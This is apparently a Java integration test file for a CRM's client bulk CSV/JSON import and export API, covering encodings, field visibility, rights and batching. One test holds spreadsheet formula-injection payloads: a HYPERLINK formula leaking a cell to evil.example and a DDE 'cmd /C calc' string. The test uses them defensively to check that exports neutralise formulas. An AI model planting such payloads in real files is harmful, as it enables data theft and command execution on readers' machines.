package io.clientbase.clients;

import static io.clientbase.support.Api.as;
import static io.clientbase.support.Api.asAdmin;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.clientbase.support.Hierarchy;
import io.clientbase.support.TestDatabase;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.sql.Connection;
import java.sql.ResultSet;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import javax.sql.DataSource;

@QuarkusTest
@QuarkusTestResource(TestDatabase.class)
class BulkImportExportTest {

    @Inject
    DataSource dataSource;

    private static Hierarchy h;
    private static long hiddenField;

    @BeforeEach
    void company() {
        if (h != null) {
            return;
        }
        h = Hierarchy.create("bulk");
        long section = asAdmin().body(Map.of("name", "Bulk " + h.suffix)).post("/api/v1/sections").then().statusCode(201)
                .extract().jsonPath().getLong("id");
        for (var f : List.of(List.of("bk_staff", "NUMBER"), List.of("bk_since", "DATE"), List.of("bk_vip", "CHECKBOX"),
                List.of("bk_note", "TEXT"))) {
            long id = asAdmin().body(Map.of("sectionId", section, "key", f.get(0), "name", f.get(0), "type", f.get(1)))
                    .post("/api/v1/fields").then().statusCode(201).extract().jsonPath().getLong("id");
            if (f.get(0).equals("bk_note")) {
                hiddenField = id;
            }
        }
        asAdmin().body(Map.of("fieldAccess", List.of(Map.of("fieldId", hiddenField, "access", "HIDDEN"))))
                .patch("/api/v1/users/" + h.id("a1")).then().statusCode(200);
    }

    @Test
    void aCsvImportCreatesTheValidRowsAndReportsTheOthersByLine() {
        String csv = "name,ownerId,bk_staff,bk_since,bk_vip,bk_note\n"
                + "Импорт один,," + "12,2026-01-31,true,секрет\n"
                + "Импорт два," + h.id("a2") + ",7.5,,false,\n"
                + ",,1,,,\n"
                + "Импорт плохой,,many,2026-02-30,maybe,\n"
                + "Импорт чужой," + h.id("b1") + ",,,,\n";
        as(h.token("headA")).contentType("text/csv; charset=UTF-8").body(csv.getBytes(java.nio.charset.StandardCharsets.UTF_8)).post("/api/v1/clients/import").then().statusCode(200)
                .body("created", equalTo(2)).body("failed", equalTo(3))
                .body("errors.line", equalTo(List.of(4, 5, 6)))
                .body("errors[1].errors.field", hasItem("fields.bk_staff"))
                .body("errors[1].errors.field", hasItem("fields.bk_since"))
                .body("errors[2].errors.field", hasItem("ownerId"));
        as(h.token("a2")).queryParam("q", "Импорт два").get("/api/v1/clients").then()
                .body("items[0].fields.bk_staff", equalTo(7.5f)).body("items[0].fields.bk_vip", equalTo(false));
        as(h.token("headA")).queryParam("q", "Импорт один").get("/api/v1/clients").then()
                .body("items[0].fields.bk_note", equalTo("секрет")).body("items[0].ownerId", equalTo((int) h.id("headA")));
    }

    @Test
    void whatExcelSavesIsImportedAndWhatItOpensIsExported() throws Exception {
        // "CSV UTF-8" from Excel: a byte-order mark; Excel in a Russian locale: ; between cells
        byte[] excel = ("\uFEFFname;bk_staff;bk_note\nЭксель Один;3;\"с ; внутри\"\nЭксель Два;4;\n")
                .getBytes(java.nio.charset.StandardCharsets.UTF_8);
        as(h.token("headA")).contentType("text/csv; charset=UTF-8").body(excel).post("/api/v1/clients/import").then().statusCode(200)
                .body("created", equalTo(2)).body("failed", equalTo(0));
        as(h.token("headA")).queryParam("q", "Эксель Один").get("/api/v1/clients").then()
                .body("items[0].fields.bk_staff", equalTo(3)).body("items[0].fields.bk_note", equalTo("с ; внутри"));
        byte[] windows = "name;bk_staff\nЭксель Три;5\n".getBytes(java.nio.charset.Charset.forName("windows-1251"));
        as(h.token("headA")).contentType("text/csv; charset=windows-1251").queryParam("delimiter", ";").body(windows)
                .post("/api/v1/clients/import").then().statusCode(200).body("created", equalTo(1));
        as(h.token("headA")).contentType("text/csv; charset=UTF-8").queryParam("delimiter", "::").body("name\nX\n")
                .post("/api/v1/clients/import").then().statusCode(400).body("errors.field", hasItem("delimiter"));

        byte[] export = as(h.token("headA")).queryParam("q", "Эксель").queryParam("delimiter", ";").queryParam("bom", true)
                .get("/api/v1/clients/export").then().statusCode(200).extract().asByteArray();
        assertEquals(List.of((byte) 0xEF, (byte) 0xBB, (byte) 0xBF), List.of(export[0], export[1], export[2]), "a byte-order mark first");
        String text = new String(export, 3, export.length - 3, java.nio.charset.StandardCharsets.UTF_8);
        assertTrue(text.startsWith("id;name;ownerId;createdAt;updatedAt;"), text);
        assertTrue(text.contains("Эксель Три"), text);
        assertTrue(text.contains("\"с ; внутри\""), "a cell holding the separator is quoted: " + text);
    }

    @Test
    void aJsonLinesImportValidatesEachLineLikeASingleCreate() {
        String lines = "{\"name\":\"Строка один\",\"fields\":{\"bk_staff\":3}}\n"
                + "\n"
                + "{\"name\":\"Строка два\",\"fields\":{\"bk_staff\":\"3\"}}\n"
                + "not json\n";
        as(h.token("b1")).contentType("application/x-ndjson").body(lines.getBytes(java.nio.charset.StandardCharsets.UTF_8)).post("/api/v1/clients/import").then().statusCode(200)
                .body("created", equalTo(1)).body("failed", equalTo(2)).body("errors.line", equalTo(List.of(3, 4)));
    }

    @Test
    void aHiddenOrUnknownColumnRefusesTheWholeImportAlike() {
        String hidden = as(h.token("a1")).contentType("text/csv; charset=UTF-8").body("name,bk_note\nx,y\n".getBytes(java.nio.charset.StandardCharsets.UTF_8)).post("/api/v1/clients/import")
                .then().statusCode(422).extract().jsonPath().getString("errors[0].message");
        String unknown = as(h.token("a1")).contentType("text/csv; charset=UTF-8").body("name,bk_nothing\nx,y\n".getBytes(java.nio.charset.StandardCharsets.UTF_8)).post("/api/v1/clients/import")
                .then().statusCode(422).extract().jsonPath().getString("errors[0].message");
        assertEquals(unknown, hidden);
        as(h.token("a1")).queryParam("q", "x").get("/api/v1/clients").then().body("items.name", org.hamcrest.Matchers.not(hasItem("x")));
    }

    @Test
    void importNeedsTheCreateRight() {
        long user = h.add("bkreader", "EMPLOYEE", null);
        asAdmin().body(Map.of("rights", Map.of("clients", Map.of("create", false)))).patch("/api/v1/users/" + user).then().statusCode(200);
        as(h.token("bkreader")).contentType("text/csv; charset=UTF-8").body("name\nx\n".getBytes(java.nio.charset.StandardCharsets.UTF_8)).post("/api/v1/clients/import").then().statusCode(403);
    }

    @Test
    void anExportStreamsTheCallersScopeWithVisibleFieldsOnly() {
        as(h.token("a1")).body(Map.of("name", "Экспорт a1", "fields", Map.of("bk_staff", 5))).post("/api/v1/clients").then().statusCode(201);
        as(h.token("b1")).body(Map.of("name", "Экспорт b1")).post("/api/v1/clients").then().statusCode(201);
        String csv = as(h.token("a1")).get("/api/v1/clients/export").then().statusCode(200)
                .contentType(org.hamcrest.Matchers.containsString("text/csv"))
                .header("Content-Disposition", org.hamcrest.Matchers.containsString("attachment"))
                .extract().asString();
        String header = csv.lines().findFirst().orElseThrow();
        assertTrue(header.startsWith("id,name,ownerId,createdAt,updatedAt"), header);
        assertTrue(header.contains("bk_staff"), header);
        assertFalse(header.contains("bk_note"), "hidden field exported: " + header);
        assertTrue(csv.contains("Экспорт a1"));
        assertFalse(csv.contains("Экспорт b1"), "out-of-scope client exported");
        String admin = asAdmin().queryParam("q", "Экспорт").get("/api/v1/clients/export").then().statusCode(200).extract().asString();
        assertEquals(3, admin.lines().count());
        as(h.token("a1")).queryParam("field.bk_note", "x").get("/api/v1/clients/export").then().statusCode(422);
    }

    @Test
    void anExportCannotRunFormulasInItsReadersSpreadsheetAndItsImportGivesBackTheOriginalValues() throws Exception {
        String marker = "formula" + System.nanoTime();
        String hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\") " + marker;
        String command = "+cmd|' /C calc'!A0 " + marker;
        for (String name : List.of(hyperlink, command)) {
            as(h.token("a1")).body(Map.of("name", name)).post("/api/v1/clients").then().statusCode(201);
        }
        String csv = as(h.token("a1")).queryParam("q", marker).get("/api/v1/clients/export").then().statusCode(200).extract().asString();
        var mapper = new com.fasterxml.jackson.dataformat.csv.CsvMapper();
        List<Map<String, String>> rows = new java.util.ArrayList<>();
        try (com.fasterxml.jackson.databind.MappingIterator<Map<String, String>> it = mapper.readerFor(Map.class)
                .with(com.fasterxml.jackson.dataformat.csv.CsvSchema.emptySchema().withHeader()).readValues(csv)) {
            it.forEachRemaining(rows::add);
        }
        List<String> cells = rows.stream().map(r -> r.get("name")).toList();
        assertTrue(cells.contains("'" + hyperlink) && cells.contains("'" + command), cells.toString());
        assertTrue(cells.stream().noneMatch(c -> "=+-@\t\r".indexOf(c.charAt(0)) >= 0), "a cell that starts a formula: " + cells);
        // the export sent back, as a spreadsheet user would: the import gives back the original names
        StringBuilder reimport = new StringBuilder("name\n");
        for (String cell : cells) {
            reimport.append('"').append(cell.replace("\"", "\"\"")).append("\"\n");
        }
        as(h.token("b1")).contentType("text/csv; charset=UTF-8").body(reimport.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8))
                .post("/api/v1/clients/import").then().statusCode(200).body("created", equalTo(cells.size()));
        List<String> names = as(h.token("b1")).queryParam("q", marker).queryParam("limit", 200).get("/api/v1/clients")
                .then().statusCode(200).extract().jsonPath().getList("items.name", String.class);
        assertTrue(names.containsAll(List.of(hyperlink, command)), names.toString());
    }

    @Test
    void anExportRefusesTheListsPagingAndSyncParametersInsteadOfIgnoringThem() {
        for (String parameter : List.of("updatedSince", "limit", "cursor", "sort", "deleted")) {
            as(h.token("a1")).queryParam(parameter, "2026-01-01T00:00:00Z").get("/api/v1/clients/export").then().statusCode(400)
                    .contentType("application/problem+json")
                    .body("errors[0].field", org.hamcrest.Matchers.equalTo(parameter));
        }
        as(h.token("a1")).queryParam("ownerId", h.id("a1")).get("/api/v1/clients/export").then().statusCode(200);
    }

    @Test
    void aLargeImportIsWrittenInBatchesAtOnceWithIdsInTheOrderOfTheInputAndFoundByText() {
        int rows = 4 * ClientBulk.BATCH + 321; // five batches, written two at a time
        StringBuilder csv = new StringBuilder("name,bk_staff\n");
        for (int i = 0; i < rows; i++) {
            csv.append("Партия ").append(h.suffix).append(" №").append(i).append(',').append(i).append('\n');
            if (i == 2500) {
                csv.append("Партия плохая,не число\n");
            }
        }
        as(h.token("b1")).contentType("text/csv; charset=UTF-8").body(csv.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8))
                .post("/api/v1/clients/import").then().statusCode(200)
                .body("created", equalTo(rows)).body("failed", equalTo(1)).body("errors[0].line", equalTo(2503));
        List<String> names = new java.util.ArrayList<>();
        String cursor = null;
        do {
            var request = as(h.token("b1")).queryParam("q", "Партия " + h.suffix).queryParam("sort", "id").queryParam("limit", 200);
            if (cursor != null) {
                request.queryParam("cursor", cursor);
            }
            var page = request.get("/api/v1/clients").then().statusCode(200).extract().jsonPath();
            names.addAll(page.getList("items.name", String.class));
            cursor = page.getString("nextCursor");
        } while (cursor != null);
        assertEquals(java.util.stream.IntStream.range(0, rows).mapToObj(i -> "Партия " + h.suffix + " №" + i).toList(), names,
                "ids follow the input");
        // the export sends its 2,000-client pages one after the other: every client once, in id order, with his value
        List<List<String>> rowsOut = csvRows(as(h.token("b1")).queryParam("q", "Партия " + h.suffix).get("/api/v1/clients/export").then()
                .statusCode(200).extract().asString());
        int name = rowsOut.get(0).indexOf("name");
        int staff = rowsOut.get(0).indexOf("bk_staff");
        assertEquals(names, rowsOut.stream().skip(1).map(row -> row.get(name)).toList(), "the export's clients");
        assertEquals(java.util.stream.IntStream.range(0, rows).mapToObj(Integer::toString).toList(),
                rowsOut.stream().skip(1).map(row -> row.get(staff)).toList(), "the export's bk_staff");
    }

    /** The rows of a CSV text, header first, each a list of its cells. */
    private static List<List<String>> csvRows(String text) {
        try (com.fasterxml.jackson.databind.MappingIterator<List<String>> rows = new com.fasterxml.jackson.dataformat.csv.CsvMapper()
                .enable(com.fasterxml.jackson.dataformat.csv.CsvParser.Feature.WRAP_AS_ARRAY).readerFor(List.class).readValues(text)) {
            return rows.readAll();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    @Test
    void anExportWritesEachValueAsTheListShowsIt() {
        Map<String, Object> values = Map.of("bk_staff", new java.math.BigDecimal("12.50"), "bk_since", "2026-01-31", "bk_vip", true);
        long id = as(h.token("a1")).body(Map.of("name", "Экспорт значений " + h.suffix, "fields", values)).post("/api/v1/clients").then()
                .statusCode(201).body("fields.bk_staff", equalTo(12.5f)).extract().jsonPath().getLong("id");
        List<List<String>> lines = csvRows(as(h.token("a1")).queryParam("q", "Экспорт значений " + h.suffix).get("/api/v1/clients/export")
                .then().statusCode(200).extract().asString());
        assertEquals(2, lines.size(), lines.toString());
        List<String> header = lines.get(0);
        List<String> row = lines.get(1);
        assertEquals(String.valueOf(id), row.get(header.indexOf("id")));
        assertEquals("12.5", row.get(header.indexOf("bk_staff")), "a number as the list shows it");
        assertEquals("2026-01-31", row.get(header.indexOf("bk_since")));
        assertEquals("true", row.get(header.indexOf("bk_vip")));
        assertEquals("", row.get(header.indexOf("externalId")));
    }

    @Test
    void aBatchsValuesOfEveryTypeAreFoundByTheirFilterAndItsClientsStillTakeTheirValuesAlongWhenPurged() throws Exception {
        int rows = 300; // 1,200 values in one batch: their foreign keys are checked once for the batch (ClientStore)
        StringBuilder csv = new StringBuilder("name,bk_staff,bk_since,bk_vip,bk_note\n");
        for (int i = 0; i < rows; i++) {
            csv.append("Typed ").append(h.suffix).append(' ').append(i).append(',').append(90_000 + i).append(',')
                    .append(java.time.LocalDate.of(1901, 1, 1).plusDays(i)).append(',').append(i % 3 == 0).append(',')
                    .append("typed-note-").append(h.suffix).append('-').append(i).append('\n');
        }
        as(h.token("b1")).contentType("text/csv").body(csv.toString()).post("/api/v1/clients/import").then().statusCode(200)
                .body("created", equalTo(rows)).body("failed", equalTo(0));

        long staff = asAdmin().queryParam("field.bk_staff", 90_123).get("/api/v1/clients").then().statusCode(200)
                .body("items.size()", equalTo(1)).body("items[0].name", equalTo("Typed " + h.suffix + " 123"))
                .body("items[0].fields.bk_since", equalTo("1901-05-04")).body("items[0].fields.bk_vip", equalTo(true))
                .body("items[0].fields.bk_note", equalTo("typed-note-" + h.suffix + "-123")).extract().jsonPath().getLong("items[0].id");
        asAdmin().queryParam("field.bk_since", "1901-05-04").queryParam("field.bk_staff.gte", 90_000).get("/api/v1/clients").then()
                .statusCode(200).body("items.id", equalTo(List.of((int) staff)));
        asAdmin().queryParam("field.bk_note", "typed-note-" + h.suffix + "-123").get("/api/v1/clients").then().statusCode(200)
                .body("items.id", equalTo(List.of((int) staff)));
        asAdmin().queryParam("field.bk_vip", true).queryParam("field.bk_staff.gte", 90_000).queryParam("field.bk_staff.lte", 90_299)
                .queryParam("limit", 200).get("/api/v1/clients").then().statusCode(200).body("items.size()", equalTo(100));

        assertEquals(List.of(), connectionsWithoutForeignKeyChecks(), "the batch gives its connection back with the checks on");
        asAdmin().delete("/api/v1/clients/" + staff).then().statusCode(204);
        asAdmin().queryParam("purge", true).delete("/api/v1/clients/" + staff).then().statusCode(204);
        assertEquals(0, valueRowsOf(staff), "the purge took the client's values along (ON DELETE CASCADE)");
    }

    /** Every connection the pool holds now, each asked for its session's foreign_key_checks. */
    private List<Integer> connectionsWithoutForeignKeyChecks() throws Exception {
        List<Connection> held = new ArrayList<>();
        List<Integer> off = new ArrayList<>();
        try {
            for (int i = 0; i < 8; i++) {
                Connection c = dataSource.getConnection();
                held.add(c);
                try (ResultSet rs = c.createStatement().executeQuery("SELECT @@session.foreign_key_checks")) {
                    rs.next();
                    if (rs.getInt(1) != 1) {
                        off.add(i);
                    }
                }
            }
        } finally {
            for (Connection c : held) {
                c.close();
            }
        }
        return off;
    }

    private long valueRowsOf(long clientId) throws Exception {
        try (Connection c = dataSource.getConnection();
             ResultSet rs = c.createStatement().executeQuery("SELECT COUNT(*) FROM client_values WHERE client_id = " + clientId)) {
            rs.next();
            return rs.getLong(1);
        }
    }
}
